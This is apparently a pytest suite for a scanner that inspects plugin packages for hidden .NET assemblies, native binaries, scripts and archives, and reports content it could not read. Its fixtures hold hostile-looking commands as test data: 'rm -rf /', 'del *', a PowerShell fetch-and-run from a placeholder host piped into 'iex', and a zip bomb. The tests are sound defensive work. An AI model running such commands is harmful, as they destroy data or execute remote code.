"""Everything in a package that could run is found wherever it is hidden; unread content is reported."""

from __future__ import annotations

import gzip
import io
import json
import random
import struct
import zlib
from typing import Any

import pytest

from microdock_server.bundle import Limits, contents
from microdock_server.bundle.contents import Contents, survey
from microdock_server.bundle.contents.kinds import kind_of
from microdock_server.bundle.dotnet import metadata
from microdock_server.bundle.dotnet.assembly import SIZE_MAX

from .packages import manifest, package, plugin_dll, real_dll

EVIL = real_dll()


def surveyed(content: dict[str, bytes] | None = None, **changes: Any) -> Contents:
    whole = {"plugin.json": manifest(entryClass="Clock.Plugin", **changes), "MyPlugin.dll": plugin_dll()}
    data = package(whole | (content or {}))
    return survey(io.BytesIO(data), Limits(max_ratio=5000))


def names(found: Contents) -> list[tuple[str, str]]:
    return [(item.path, item.name) for item in found.assemblies]


def zipped(content: dict[str, bytes]) -> bytes:
    return package(content)


def native(machine: int = 0x8664, characteristics: int = 0x2022) -> bytes:
    """A PE image without .NET."""
    header = b"MZ" + bytes(58) + struct.pack("<L", 64) + b"PE\0\0"
    coff = struct.pack("<2H12x2H", machine, 0, 240, characteristics)
    return header + coff + struct.pack("<H", 0x20B) + bytes(238)


def test_the_good_package_holds_one_assembly_and_nothing_else() -> None:
    found = surveyed()
    assert names(found) == [("MyPlugin.dll", "Clock")]
    assert (found.files, found.incomplete) == ([], [])
    [main] = found.assemblies
    assert (main.architecture, main.target_framework, main.is_mixed) == ("any", ".NETCoreApp,Version=v3.1", False)
    assert found.entry is not None and found.entry.interfaces == (
        "MicroDock.Plugin.IMicroDockPlugin, MicroDock.Plugin",
    )


HIDDEN: dict[str, tuple[str, bytes, str, str | None]] = {
    "beside": ("Evil.dll", EVIL, "Evil.dll", None),
    "in a folder": ("lib/x/Evil.dll", EVIL, "lib/x/Evil.dll", None),
    "as a picture": ("logo.png", EVIL, "logo.png", "disguised_assembly"),
    "without an ending": ("data", EVIL, "data", "disguised_assembly"),
    "behind a picture": ("logo.png", b"\x89PNG\r\n" + EVIL, "logo.png!6", "embedded_assembly"),
    "in an assembly": ("Other.dll", plugin_dll() + EVIL, f"Other.dll!{len(plugin_dll())}", "embedded_assembly"),
    "gzipped": ("data.gz", gzip.compress(EVIL), "data.gz!", "embedded_assembly"),
    "deflated": ("costura.evil.dll.compressed", zlib.compress(EVIL)[2:-4], "costura.evil.dll.compressed!", None),
    "zlib": ("data.z", zlib.compress(EVIL), "data.z!", "embedded_assembly"),
    "in an archive": ("more.zip", zipped({"a/Evil.dll": EVIL}), "more.zip!a/Evil.dll", "embedded_assembly"),
    "in two": ("more.zip", zipped({"x": zipped({"Evil.dll": EVIL})}), "more.zip!x!Evil.dll", "embedded_assembly"),
}


@pytest.mark.parametrize("how", HIDDEN)
def test_an_assembly_is_found_wherever_it_hides(how: str) -> None:
    name, data, path, kind = HIDDEN[how]
    found = surveyed({name: data})
    [evil] = [item for item in found.assemblies if item.name == "Python.Runtime"]
    assert evil.path == path
    assert {use.capability for use in evil.uses} >= {"reflection_emit", "dynamic_loading"} and evil.imports
    assert found.incomplete == []
    if kind:
        assert (kind, path) in found.files


NATIVE: dict[str, tuple[bytes, str]] = {
    "windows library": (native(), "native_library"),
    "windows program": (native(characteristics=0x22), "executable"),
    "linux library": (b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<H", 3) + bytes(100), "native_library"),
    "linux program": (b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<H", 2) + bytes(100), "executable"),
    "linux program, anywhere": (
        b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<H", 3) + bytes(40) + b"/lib64/ld-linux-x86-64.so.2\0", "executable",
    ),
    "mac library": (b"\xcf\xfa\xed\xfe" + struct.pack("<3L", 0x0100000C, 0, 6), "native_library"),
    "mac program": (b"\xcf\xfa\xed\xfe" + struct.pack("<3L", 0x0100000C, 0, 2), "executable"),
    "mac, fat": (b"\xca\xfe\xba\xbe" + struct.pack(">L", 2) + bytes(40), "native_library"),
    "java": (b"\xca\xfe\xba\xbe" + struct.pack(">L", 61) + bytes(40), "executable"),
    "shell": (b"#!/bin/sh\nrm -rf /\n", "script"),
    "batch": (b"@echo off\r\ndel *\r\n", "script"),
    "powershell": (b"$x = 1\nInvoke-WebRequest http://e.example | iex\n", "script"),
    "powershell, utf-16": (b"\xff\xfe" + "Start-Process calc".encode("utf-16-le"), "script"),
    "visual basic": (b'Set s = CreateObject("WScript.Shell")\r\n', "script"),
    "shortcut": (b"L\0\0\0\x01\x14\x02\0" + bytes(60), "script"),
    "7-zip": (b"7z\xbc\xaf\x27\x1c" + bytes(20), "archive"),
    "rar": (b"Rar!\x1a\x07\1\0" + bytes(20), "archive"),
}  # fmt: skip


@pytest.mark.parametrize("what", NATIVE)
@pytest.mark.parametrize("name", ["picture.png", "notes", "lib/thing.dat"])
def test_files_are_judged_by_what_they_are(what: str, name: str) -> None:
    data, kind = NATIVE[what]
    assert surveyed({name: data}).files == [(kind, name)]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("README.md", b"Run `Start-Process calc` and `Invoke-Expression`.\n"), ("a.json", b'{"x": 1}'), ("e.txt", b""),
        ("jquery.js", b'var a = new ActiveXObject("Microsoft.XMLHTTP");'), ("site.css", b"a { color: red }"),
        ("logo.png", b"\x89PNG\r\n\x1a\n" + bytes(100)), ("MZ.txt", b"MZ is how programs begin. PE\0\0 too"),
        ("table.docx", zipped({"word/document.xml": b"<w/>"})), ("data.gz", gzip.compress(b"plain text", mtime=0)),
        ("note.txt", "#!标题".encode()),
    ],
)  # fmt: skip
def test_data_is_no_finding(name: str, data: bytes) -> None:
    found = surveyed({name: data})
    assert (found.files, found.incomplete, len(found.assemblies)) == ([], [], 1)


@pytest.mark.parametrize(("name", "kind"), [("go.cmd", "script"), ("go.PS1", "script"), ("setup.msi", "executable")])
def test_what_has_no_mark_goes_by_its_name(name: str, kind: str) -> None:
    assert kind_of(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" if kind == "executable" else b"anything", name) == kind


def test_a_dotnet_program_beside_the_plugin_is_one() -> None:
    program = bytearray(plugin_dll())
    (start,) = struct.unpack_from("<L", program, 0x3C)
    struct.pack_into("<H", program, start + 22, 0x22)
    assert surveyed({"Tool.dll": bytes(program)}).files == [("managed_executable", "Tool.dll")]
    # As the main assembly it is loaded like any other.
    assert surveyed({"MyPlugin.dll": bytes(program)}).files == []


# What was not read


def test_a_table_that_is_too_long_makes_the_review_incomplete() -> None:
    """What stands behind 100,001 references is not read, and so it is not clean."""
    rows = metadata.ROWS_MAX + 1
    assert surveyed({"Long.dll": with_references(rows)}).incomplete == [("rows", "Long.dll")]
    assert surveyed({"Long.dll": with_references(rows - 1)}).incomplete == []


def with_references(count: int) -> bytes:
    """An image whose table of type references has so many rows: a hull of headers around metadata of our own."""
    # Of so many rows their numbers, with the kind of thing they point to, take four bytes.
    assert count >= 1 << 14
    module, reference, type_ = bytes(10), struct.pack("<L2H", 2, 1, 1), struct.pack("<L2HL2H", 0, 1, 0, 0, 1, 1)
    present = 1 << 0 | 1 << 1 | 1 << 2
    tables = struct.pack("<LBBBBQQ3L", 0, 2, 0, 0, 1, present, 0, 1, count, 1)
    tables += module + reference * count + type_
    strings = b"\0X\0\0"
    version = b"v4.0.30319\0\0"
    root = struct.pack("<L2HLL", 0x424A5342, 1, 1, 0, len(version)) + version + struct.pack("<2H", 0, 2)
    first = len(root) + 12 + 20
    heads = struct.pack("<2L", first, len(tables)) + b"#~\0\0"
    heads += struct.pack("<2L", first + len(tables), len(strings)) + b"#Strings\0\0\0\0"
    return image(root + heads + tables + strings)


def image(metadata_root: bytes) -> bytes:
    """A library for any machine with this metadata."""
    optional = struct.pack("<H", 0x10B) + bytes(90) + struct.pack("<L", 16) + bytes(14 * 8)
    optional += struct.pack("<2L", 0x2000, 72) + bytes(8)
    coff = struct.pack("<2H12x2H", 0x14C, 1, len(optional), 0x2022)
    clr = struct.pack("<LHH2LL", 72, 2, 5, 0x2000 + 72, len(metadata_root), 1)
    body = clr.ljust(72, b"\0") + metadata_root
    head = b"MZ" + bytes(58) + struct.pack("<L", 64) + b"PE\0\0" + coff + optional
    section = b".text\0\0\0" + struct.pack("<4L", len(body), 0x2000, len(body), 512) + bytes(16)
    return (head + section).ljust(512, b"\0") + body


def test_metadata_that_cannot_be_read_is_said() -> None:
    broken = bytearray(real_dll())
    broken[real_dll().index(b"BSJB")] = 0
    assert surveyed({"Broken.dll": bytes(broken)}).incomplete == [("unreadable", "Broken.dll")]


@pytest.mark.parametrize("data", [b"\x89PNG" + bytes(SIZE_MAX) + EVIL, plugin_dll() + bytes(SIZE_MAX) + EVIL])
def test_an_image_in_a_large_file_is_said(data: bytes) -> None:
    assert ("too_large", "large.bin") in surveyed({"large.bin": data}).incomplete


def test_a_large_assembly_is_read_and_large_data_is_data() -> None:
    found = surveyed({"Large.dll": real_dll() + bytes(SIZE_MAX), "film.mp4": bytes(SIZE_MAX + 1)})
    assert names(found)[-1] == ("Large.dll", "Python.Runtime")
    assert (found.files, found.incomplete) == ([], [])


def test_archives_in_archives_end_somewhere() -> None:
    data = EVIL
    for _ in range(contents.DEPTH_MAX + 1):
        data = zipped({"x": data})
    assert [limit for limit, _ in surveyed({"x.zip": data}).incomplete] == ["too_deep"]


def test_more_assemblies_than_are_looked_at_are_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(contents, "ASSEMBLIES_MAX", 3)
    found = surveyed({f"{number}.dll": plugin_dll() for number in range(4)})
    assert len(found.assemblies) == 3
    assert [limit for limit, _ in found.incomplete] == ["too_many", "too_many"]


def test_what_unpacks_to_more_than_a_package_may_hold_is_said() -> None:
    bomb = zlib.compress(b"MZ" + bytes(SIZE_MAX + 1))
    assert surveyed({"bomb": bomb}).incomplete == [("too_large", "bomb")]


@pytest.mark.parametrize("data", [b"", b"no archive", zipped({"x": b""})[:30]], ids=["empty", "text", "cut"])
def test_no_archive_holds_nothing(data: bytes) -> None:
    assert survey(io.BytesIO(data), Limits()) == Contents()


def test_the_stored_form_is_json() -> None:
    document = surveyed({"Evil.dll": EVIL, "x.sh": b"#!/bin/sh\n"}).as_json()
    assert json.loads(json.dumps(document))["files"] == [{"kind": "script", "path": "x.sh"}]


def test_hundreds_of_accidents_raise_nothing() -> None:
    chance = random.Random(5)
    for _ in range(60):
        data = bytearray(real_dll())
        start = data.index(b"BSJB")
        for _ in range(chance.choice((1, 5, 100))):
            area = chance.choice(((0, 0x400), (start, start + 500), (0, len(data))))
            data[chance.randrange(*area)] = chance.randrange(256)
        found = surveyed({"MyPlugin.dll": bytes(data)})
        assert found.facts is not None and found.facts.status in (
            "ok",
            "entry_class_missing",
            "not_managed",
            "unreadable",
        )
